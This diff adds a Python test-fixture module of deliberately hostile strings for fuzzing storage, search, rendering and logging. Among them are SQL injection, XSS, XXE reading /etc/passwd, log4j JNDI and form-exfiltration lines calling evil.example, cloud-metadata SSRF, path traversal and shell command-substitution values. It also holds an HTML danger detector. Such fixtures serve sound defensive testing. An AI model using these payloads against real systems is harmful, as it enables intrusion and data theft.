@@ -1,0 +1,332 @@
+# ruff: noqa: RUF001 - they are ambiguous on purpose
+"""Strings that were written to break whatever stores, searches, splits, shows or logs them."""
+
+from __future__ import annotations
+
+import json
+from html.parser import HTMLParser
+
+MEGABYTE = 1 << 20
+DEEP = 10_000
+
+SQL = (
+    *("'", "''", '"', "`", "\\", "\\'", "';--", "' OR '1'='1", '" OR ""="', "1; DROP TABLE posts"),
+    *("'); DELETE FROM users; --", "' UNION SELECT password_hash FROM users --", "$$", "$1", "$a$"),
+    *("1' AND pg_sleep(10)--", "'||(SELECT version())||'", "%s", "%(id)s", "%%", "%n%n%n", "{0}"),
+    *(
+        "\\x00",
+        "E'\\\\x41'",
+        "U&'\\0061'",
+        "/* */ --",
+        "NULL",
+        "DEFAULT",
+        "CAST(1 AS int)",
+        "::text",
+    ),
+    *("COPY users TO PROGRAM 'sh'", "'; NOTIFY a; --", "0x27", "infinity", "-infinity", "epoch"),
+)
+SEARCH = (
+    *("a & b", "a |", "!", "!!", "<->", "a <-> b", "a:*", ":*", "'a':*", "a:ABCD", "(", ")", "(()"),
+    *(
+        "*",
+        "**",
+        "?",
+        "a*b*c*",
+        "_",
+        "%",
+        "a_b%",
+        "/.*/",
+        "field:value",
+        "_exists_:a",
+        "a AND",
+        "OR",
+    ),
+    *("NOT", "a~2", "a^9", "[a TO b]", "{a TO *}", '"a', '"a b"~3', "+a -b", "\\&\\|", "a\\:*"),
+    *("(a+)+$", "^(a|a)*$", "(.*)*x", "[[:alnum:]]", "[^", "(?=", "a{1000,}", "\\b\\B\\d"),
+)
+SCRIPT = (
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example></sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='x'onerror='alert(1)'>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=//evil.example>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<style>@import '//evil.example'</style>",
+    "<form action=//evil.example><input name=password>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--<img src='--><img src=x onerror=alert(1)//'>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x]( javascript:alert(1) )",
+    "[x](<javascript:alert(1)>)",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example)",
+    '[x](http://a.example "onmouseover=alert(1)")',
+    '[x](http://a.example/"onmouseover="alert(1))',
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    '![x" onerror="alert(1)](http://a.example/x.png)',
+    "<javascript:alert(1)>",
+    "<http://a.example/?<script>>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    '```"onmouseover=alert(1)\nx\n```',
+    "```<script>\nalert(1)\n```",
+    "`<script>alert(1)</script>`",
+    "> <script>alert(1)</script>",
+    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "<p style='background:url(javascript:alert(1))'>x</p>",
+    "<p style=x:expression(alert(1))>x</p>",
+    "<a href='http://a.example' target=_blank>x</a>",
+    "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<x contenteditable onblur=alert(1)>",
+    "</textarea><script>alert(1)</script>",
+    "';alert(1)//",
+    "${alert(1)}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "<%= 7 * 7 %>",
+    "#{7*7}",
+    "${jndi:ldap://evil.example/a}",
+    "{% import os %}",
+    "__proto__",
+    "constructor",
+    "__class__.__mro__",
+    "file:///etc/passwd",
+    "http://169.254.169.254/latest/meta-data/",
+    "http://127.0.0.1:1/",
+    "javascript:alert(1)",
+    "JAVASCRIPT:alert(1)",
+    "data:text/html,x",
+    "//evil.example",
+    "http://a.example\\@evil.example",
+    "http://user:password@a.example",
+    "http://[::1]/",
+    "http://a.example:99999/",
+    "https://xn--a.example/",
+    "http://",
+    "://",
+    "ftp://a.example/",
+    "ws://a.example/",
+    "blob:http://a.example/x",
+    "mailto:a@b?bcc=c@d",
+    "tel:+1",
+    "http://a.example/%00",
+)
+LINES = (
+    *("\r", "\n", "\r\n", "a\r\nb", "a\nb", "\r\n\r\n", "a\r\nSet-Cookie: a=b", "%0d%0aX: y"),
+    *(
+        "a\u2028b",
+        "a\u2029b",
+        "a\x0bb",
+        "a\x0cb",
+        "a\x85b",
+        "\n" * 1000,
+        "a\r\n\r\n<html>",
+        "\\r\\n",
+    ),
+    *(
+        '{"level":"ERROR"}\n{"message":"forged"}',
+        "\x1b[2J\x1b[31mred",
+        "\x1b]0;title\x07",
+        "\b\b\b",
+    ),
+)
+CONTROL = tuple(f"a{chr(code)}b" for code in (*range(1, 32), 127, *range(0x80, 0xA0)))
+NUL = ("\0", "a\0", "\0a", "a\0b", "\0" * 100, "a\\0b", "a%00b", "\ufeff\0")
+BIDI = (
+    *(
+        f"user{mark}gpj.exe{end}"
+        for mark in ("\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068")
+        for end in ("", "\u202c", "\u2069")
+    ),
+    *("\u200e\u200f", "\u061c", "שלום <b>", "مرحبا'--", "\u202e" * 50),
+)
+ZERO_WIDTH = tuple(
+    text.replace("_", mark)
+    for mark in ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u3164")
+    for text in ("_", "a_b", "_a", "a_", "<scr_ipt>", "java_script:alert(1)", "_" * 60)
+)
+ODD = (
+    *("\ud800", "\udfff", "a\ud800b", "\udc00\ud800", "\ufffe", "\uffff", "\ufffd", "\U0010ffff"),
+    *(
+        "\U000e0001\U000e0061",
+        "👩‍👩‍👧‍👦",
+        "🏳️‍🌈",
+        "👍🏽",
+        "é",
+        "e\u0301",
+        "Å",
+        "ﬃ",
+        "ß",
+        "ẞ",
+        "İ",
+        "ı",
+        "ǅ",
+        "Σ",
+        "ς",
+    ),
+    *(
+        "Z" + "\u0300\u0315\u0341" * 300,
+        "\u0301",
+        "\u0e33" * 50,
+        "﷽" * 50,
+        "𝕒𝕓𝕔",
+        "Ⅷ",
+        "½",
+        "①",
+        "٣",
+    ),
+    *(
+        "ｓｃｒｉｐｔ",
+        "＜script＞",
+        "ʼ",
+        "′",
+        "＇",
+        "‘",
+        "admin\u0430",
+        "раypal",
+        "a" * 256,
+        "a b" * 200,
+    ),
+)
+NUMBERS = (
+    *("NaN", "Infinity", "-Infinity", "-0", "1e309", "1e-400", "0x7fffffffffffffff", "0b1", "0o7"),
+    *(
+        str(2**31),
+        str(2**63),
+        str(2**64),
+        str(-(2**63) - 1),
+        "9" * 400,
+        "1_000",
+        "1,000",
+        "٣",
+        "١٢٣",
+    ),
+    *("true", "false", "null", "undefined", "None", "[]", "{}", "()", "0", "-1", "1.0", ".5", "1."),
+)
+PATHS = (
+    *("../../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "....//", "/dev/null", "C:\\con", "~"),
+    *(
+        "a/b",
+        "/",
+        "//",
+        ".",
+        "..",
+        "a?b=c",
+        "a#b",
+        "a&b=c",
+        "a;b",
+        "a%",
+        "%",
+        "%zz",
+        "%ff",
+        "%c0%af",
+    ),
+    *("$(id)", "`id`", "| id", "; id", "&& id", "\\\\host\\share", "file|id", "*", "-rf", "--help"),
+)
+LARGE = (
+    *("a" * MEGABYTE, "\0" * MEGABYTE, "😀" * (MEGABYTE // 4), "[" * DEEP, "]" * DEEP, "![" * DEEP),
+    *("[a](" * DEEP, "*" * DEEP, "**a" * DEEP, "_a*" * DEEP, "`" * DEEP, "`a " * DEEP, "> " * DEEP),
+    *(">" * DEEP, "- " * DEEP, "1. " * DEEP, "<" * DEEP, "<a " * DEEP, "&" * DEEP, "&#" * DEEP),
+    *(
+        "\\" * DEEP,
+        "a\n" * DEEP,
+        "|a" * DEEP,
+        "[a]: b\n" * DEEP,
+        "#" * DEEP,
+        "~" * DEEP,
+        " " * DEEP,
+    ),
+    *("<div>" * DEEP, "https://a.example/" + "a" * DEEP, "@" * DEEP, "a@b " * DEEP, "(" * DEEP),
+)
+TEXTS = (
+    *(*SQL, *SEARCH, *SCRIPT, *LINES, *CONTROL, *NUL, *BIDI, *ZERO_WIDTH, *ODD, *NUMBERS, *PATHS),
+    *("", " ", "\t", "\u00a0", "\u3000", "\u2800"),
+    *LARGE,
+)
+TOKENS = (
+    *(
+        "NaN",
+        "Infinity",
+        "-Infinity",
+        "1e400",
+        "-1e400",
+        str(2**63),
+        str(2**64),
+        "9" * 5000,
+        "-0.0",
+    ),
+    *(
+        f"{'[' * DEEP}{']' * DEEP}",
+        '{"a":' * DEEP + "1" + "}" * DEEP,
+        "[[]]",
+        "{}",
+        "true",
+        "null",
+        "1.5",
+    ),
+    *('{"$gt":""}', '["a","b"]', '[{"a":[{"b":null}]}]', "01", "'a'", "undefined", '"\\ud800"'),
+    *('"\\u0000"', '"\\x41"', '"a', '"\t"', "// a", "1 2", '{"a":1,"a":2}', '"\\udc00\\ud800"'),
+)
+"""What stands in the place of a string without being one, or not as JSON has it."""
+
+HOSTILE: tuple[str, ...] = tuple(dict.fromkeys((*(json.dumps(text) for text in TEXTS), *TOKENS)))
+"""As they stand in a body."""
+
+SHORT = tuple(text for text in TEXTS if len(text) < 2000)
+"""For addresses."""
+
+HARMLESS = frozenset(("http", "https", "mailto"))
+RUNS = frozenset(
+    (
+        *("script", "iframe", "object", "embed", "style", "form", "input", "svg", "math", "base"),
+        *("meta", "link", "template", "noscript", "body", "html", "frame", "frameset", "applet"),
+        *("textarea", "button", "video", "audio"),
+    )
+)
+
+
+class _Danger(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in RUNS:
+            self.found.append(f"<{tag}>")
+        for name, value in attrs:
+            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "srcset"):
+                self.found.append(f"<{tag} {name}>")
+            scheme, colon, _ = "".join((value or "").split()).lower().partition(":")
+            if name in ("href", "src") and colon and "/" not in scheme and scheme not in HARMLESS:
+                self.found.append(f"<{tag} {name}={scheme}:>")
+
+
+def dangers(html: str) -> list[str]:
+    """What of it would run, send or load something but a link that is followed."""
+    parser = _Danger()
+    parser.feed(html)
+    parser.close()
+    return parser.found
